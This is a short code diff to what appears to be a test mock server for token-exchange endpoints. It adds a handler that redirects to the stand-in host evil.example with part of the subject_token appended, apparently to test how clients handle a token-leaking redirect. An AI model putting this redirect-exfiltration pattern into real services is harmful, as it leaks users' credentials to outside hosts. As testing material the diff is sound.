@@ -224,6 +224,10 @@ def echo(part):
                                             "bad token ..." + r.form()[part][-20:]})
 
 
+def echo_location(_, connection, request):
+    return m.reply(connection, 302, b"", "Location: https://evil.example/?" + request.form()["subject_token"][-20:])
+
+
 def variable(name):
     return lambda s, c, r: m.reply(c, 200, s.variables.get(name) or [])
 
@@ -247,6 +251,7 @@ def table():
                              if "generateAccessToken" in r.path else google_sts(s, c, r)}}
     for part in ("subject_token", "actor_token"):
         out["xch-echo-" + part] = {"token": echo(part)}
+    out["xch-echo-location"] = {"token": echo_location}
     for name in ("sts-log", "google-last", "xch-last"):
         out[name] = {"any": variable(name)}
     for name, fault in sts.FAULTS.items():
